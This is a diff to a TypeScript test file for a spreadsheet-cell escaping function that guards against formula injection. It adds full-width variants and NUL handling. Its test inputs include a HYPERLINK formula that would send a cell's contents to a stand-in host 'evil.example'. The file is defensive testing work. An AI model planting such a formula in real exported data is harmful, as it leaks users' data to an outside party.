@@ -20,13 +20,15 @@ const toNumber = (value: unknown) =>
 test('a cell that would run as a formula gets a word in front', () => {
 	const formulas = [
 		...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-1-1', '-', '@SUM(A1)'],
-		...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1', "' '+1+1"],
+		...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0001=1+1', "' '+1+1"],
 		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1'],
+		// Full-width, as some spreadsheets read them.
+		...['＝1+1', '＋1+1', '－1', ' ＠SUM(A1)'],
 	];
 	expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
 	const others = [
 		...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
-		...['Text: =1+1', '\tplain', '＝1+1', '+14165550100', '-12.5', '+0.25'],
+		...['Text: =1+1', '\tplain', 'a＝b', '+14165550100', '-12.5', '+0.25'],
 	];
 	expect(others.map(escapeCell)).toEqual(others);
 });
@@ -45,9 +47,14 @@ test('a cell of many millions of invisible characters is cut', () => {
 	expect(escapeCell('\r\n'.repeat(40_000))).toBe(`${' '.repeat(32_766)}…`);
 });
 
-test('a cell of any text is one line, never begins like a formula and loses nothing but line breaks', () => {
+test('a cell has no NUL, since a table in PostgreSQL refuses it and with it the rows behind', () => {
+	expect(escapeCell('Ann\0 Lee')).toBe('Ann  Lee');
+	expect(escapeCell('\0=1+1')).toBe('Text:  =1+1');
+});
+
+test('a cell of any text is one line, never begins like a formula and loses nothing but line breaks and NULs', () => {
 	expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1')).toBe('a b   c  =1');
-	const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
+	const lineBreaks = /\r\n|[\0\n\v\f\r\u0085\u2028\u2029]/g;
 	const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
 	fc.assert(
 		fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
